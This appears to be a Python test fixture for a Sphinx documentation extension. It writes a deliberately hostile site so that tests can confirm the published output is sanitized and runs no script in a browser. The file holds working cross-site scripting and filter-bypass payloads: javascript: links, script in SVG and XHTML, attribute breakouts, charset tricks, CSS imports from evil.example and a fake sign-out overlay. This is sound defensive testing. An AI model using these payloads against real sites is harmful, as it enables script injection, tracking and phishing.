"""A site of hostile content that only the check of published files stands against.

Shared by ``tests/ext/test_published.py`` (what the build publishes and says) and
``tests/browser/test_published_in_browser.py`` (that nothing of it runs in Chromium).
The payloads call ``alert``: a browser test counts the dialogs.
"""

from __future__ import annotations

import codecs
import shutil
from pathlib import Path

from conftest import TESTS_DIR

HOSTILE_PAGE = """\
# Other roads

```{button-link} javascript:alert(1)
A button
```

{bdg-link-primary}`A badge <javascript:alert(2)>`

[A link](javascript:alert(3))

{download}`A page to download <files/evil.html>`

{download}`A plain page to download <files/plain.html>`

![An SVG from the source folder](_static/evil.svg)

```{figure} _static/plain.svg
:alt: A plain illustration

A legend with ![an SVG](_static/evil2.svg) inside.
```

An icon {octicon}`check;1em;x"><style><img/src="x"/onerror="alert(4)"></style>`

{download}`A data file <files/evil.xml>` and {download}`a sitemap <files/plain.xml>`

![A picture saved as UTF-16](_static/utf16.svg)
"""
# An SVG script loading its code from href, with a text the basic theme writes (its
# domain index): red team, fourth round.
HOSTILE_PAGE += (
    '\nAn SVG script {octicon}`check;1em;x"><svg><script href="_static/payload.js">'
    'DOCUMENTATION_OPTIONS.COLLAPSE_INDEX = true</script></svg><b class="`\n'
)
EVIL_XML = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
    "<body><script>alert('xml')</script></body></html>"
)
PLAIN_XML = (
    '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    "<url><loc>https://example.org/</loc></url></urlset>"
)
UTF16_SVG = (
    '<?xml version="1.0" encoding="UTF-16"?><?xml-stylesheet type="text/xsl" href="x.xsl"?>'
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect/></svg>'
).encode("utf-16")
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
    '<script>alert("svg")</script></svg>'
)
PLAIN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect/></svg>'


XHTML_SCRIPT = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><body>'
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></body></html>'
)
#: Static files from the source folder, by roads found by testing as an attacker: a
#: template Sphinx renders over a theme's file, names no rule knew, an XHTML frame.
OTHER_STATIC_FILES = {
    "doctools.js_t": "alert('template');",
    "pic.svg_t": EVIL_SVG,
    "frame.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" '
        'viewBox="0 0 10 10"><h:frame src="javascript:alert(1)"/></svg>'
    ),
    "page.xhtml": XHTML_SCRIPT,
    "page.xhtm": XHTML_SCRIPT,
    "process.xpdl": XHTML_SCRIPT,
    "plain.rng": '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><start/></grammar>',
    "sniffed.unknown": "<p>hi</p><img src=x onerror=alert(1)>",
    # Not well-formed: a browser given an XML type runs what comes before the mistake.
    "broken.xpdl": ('<r xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script><oops'),
    "notes.txt": "<script>alert('served as text/plain, never run')</script>",
    # Red team, fourth round: an XHTML doctype's entity stops expat before the script a
    # browser runs; an SVG's CSS import written with an escape, a paint from elsewhere.
    "entity.xpdl": (
        '<!DOCTYPE package PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<package>&nbsp;'
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></package>'
    ),
    "imported.svg": PLAIN_SVG.replace(
        "<rect/>", "<style>@\\69mport url(https://evil.example/track.css);</style><rect/>"
    ),
    "painted.svg": PLAIN_SVG.replace("<rect/>", '<rect fill="url(https://evil.example/p.svg#g)"/>'),
    "gradient.svg": PLAIN_SVG.replace(
        "<rect/>", '<linearGradient id="g"/><rect style="fill: url(#g)"/>'
    ),
    # Loaded by the SVG script above, whose text is one the basic theme writes.
    "payload.js": 'alert("svg script href")',
    # Stylesheets of the site's folder (red team, fifth round): read as every page
    # loads the site's own; a plain one is published.
    "notes.css": "@import url(https://evil.example/x.css);",
    "overlay.css": "body::after { content: 'Signed out'; position: fixed; inset: 0 }",
    "plain.css": "p { color: #222 }",
    # Red team, sixth round: a page without a doctype reads a .txt as a stylesheet; a
    # stylesheet nested 20,000 deep stopped the check, and the files after it went
    # unchecked (the next one holds a script).
    "letter.html": '<link rel="stylesheet" href="letter-style.txt"><p>A letter.</p>',
    "letter-style.txt": "body::after { content: 'Signed out'; position: fixed; inset: 0 }",
    "deep.css": "." + "(" * 20_000,
    "deep2.svg": PLAIN_SVG.replace("<rect/>", f'<rect fill="{"(" * 5000}"/>'),
    "deeq.html": "<p>After the deep files.</p><script>alert('after the deep ones')</script>",
    "utf8.html": '<meta charset="utf-8"><p>A plain page, as every browser reads it.</p>',
}
#: Pages a browser decodes otherwise than as UTF-8 (red team, fourth round): one saved as
#: UTF-16 with its mark, one whose declared ISO-2022-JP swallows a quote.
OTHER_STATIC_BYTES = {
    "utf16.html": codecs.BOM_UTF16_LE
    + "<img src=x onerror=alert(1)><script>alert(2)</script>".encode("utf-16-le"),
    "iso2022.html": (
        b'<!doctype html><meta charset="iso-2022-jp"><title>W</title>'
        b'<svg x\x1b$B="\x1b(B onload=alert(3) y="">'
    ),
}


def write_hostile_site(srcdir: Path) -> None:
    """The ``test-published`` root in *srcdir*, with every hostile page and file."""
    shutil.copytree(TESTS_DIR / "roots" / "test-published", srcdir)
    (srcdir / "hostile.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    files = srcdir / "files"
    files.mkdir()
    (files / "evil.html").write_text("<p>hi</p><script>alert('download')</script>", "utf-8")
    (files / "plain.html").write_text("<p>A plain page.</p>", "utf-8")
    (files / "evil.xml").write_text(EVIL_XML, "utf-8")
    (files / "plain.xml").write_text(PLAIN_XML, "utf-8")
    static = srcdir / "_static"
    static.mkdir()
    (static / "evil.svg").write_text(EVIL_SVG, "utf-8")
    (static / "evil2.svg").write_text(EVIL_SVG, "utf-8")
    (static / "plain.svg").write_text(PLAIN_SVG, "utf-8")
    (static / "utf16.svg").write_bytes(UTF16_SVG)
    for name, content in OTHER_STATIC_FILES.items():
        (static / name).parent.mkdir(parents=True, exist_ok=True)
        (static / name).write_text(content, "utf-8")
    for name, data in OTHER_STATIC_BYTES.items():
        (static / name).write_bytes(data)
    (static / "evil.html").write_text('<a href="javascript:alert(1)">x</a>', "utf-8")
    # A folder linked into the static folder: Sphinx copies through the link.
    linked = srcdir / "linked"
    linked.mkdir()
    (linked / "evil.svg").write_text(EVIL_SVG.replace("<svg ", '<svg onload="alert(5)" '), "utf-8")
    (static / "lnk").symlink_to("../linked", target_is_directory=True)
